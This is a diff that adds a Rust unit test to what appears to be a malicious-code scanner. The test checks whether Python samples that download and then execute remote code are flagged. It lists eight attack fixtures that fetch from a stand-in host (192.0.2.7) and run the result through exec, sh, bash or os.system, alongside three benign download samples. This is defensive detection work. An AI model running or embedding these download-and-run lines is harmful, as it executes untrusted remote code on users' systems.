@@ -203,3 +203,35 @@ fn only_functions_reached_at_load_time_count() {
         "{found:?}"
     );
 }
+
+/// Download-and-run needs the fetched data to reach what runs: in one expression, through
+/// names, through a file written or downloaded to, or through the file's own helpers. Utility
+/// code that downloads in one function and starts an unrelated process in another (ultralytics'
+/// `is_url` + `safe_download`'s `curl` of a URL into a file) is not it.
+#[test]
+fn download_and_run_needs_the_download_to_reach_the_run() {
+    let fetches = |source: &str| {
+        verdicts(source, false)
+            .iter()
+            .any(|v| v.what.contains("fetches"))
+    };
+    for attack in [
+        "import requests\nexec(requests.get('http://192.0.2.7/x').text)\n",
+        "import requests\ndef fetch(u):\n    r = requests.get(u)\n    return r.text\ndef main():\n    code = fetch('http://192.0.2.7/x')\n    exec(code)\n",
+        "import subprocess, urllib.request\ndef run(cmd):\n    subprocess.run(['sh', '-c', cmd])\ndef go():\n    run(urllib.request.urlopen('http://192.0.2.7/x').read().decode())\n",
+        "import subprocess, urllib.request\ndef go(path):\n    urllib.request.urlretrieve('http://192.0.2.7/x.sh', path)\n    subprocess.run(['sh', path])\n",
+        "import os, requests\ndef go(p):\n    data = requests.get('http://192.0.2.7/x.sh').content\n    with open(p, 'wb') as fh:\n        fh.write(data)\n    os.system('sh ' + p)\n",
+        "import subprocess, requests\ncode = requests.get('http://192.0.2.7/x.sh').text\nsubprocess.run(['bash'], input=code, text=True)\n",
+        "import subprocess, os, requests\ndef go(p):\n    open(p, 'wb').write(requests.get('http://192.0.2.7/bin').content)\n    subprocess.run([p])\n",
+        "import requests\nclass C:\n    def fetch(self):\n        return requests.get('http://192.0.2.7/x').text\n    def go(self):\n        exec(self.fetch())\n",
+    ] {
+        assert!(fetches(attack), "{attack}");
+    }
+    for ordinary in [
+        "import subprocess, requests\ndef is_url(u):\n    return requests.head(u).ok\ndef download(url, f):\n    if is_url(url):\n        subprocess.run(['curl', '-L', url, '-o', f])\n",
+        "import subprocess, httpx\nT = httpx.Timeout(10)\ndef check_uv():\n    return subprocess.run(['uv', '-V'], capture_output=True).returncode == 0\n",
+        "import subprocess, requests\ndef info(u):\n    return requests.get(u).json()['url']\ndef get(u, f):\n    subprocess.run(['curl', '-L', info(u), '-o', f])\n",
+    ] {
+        assert!(!fetches(ordinary), "{ordinary}");
+    }
+}
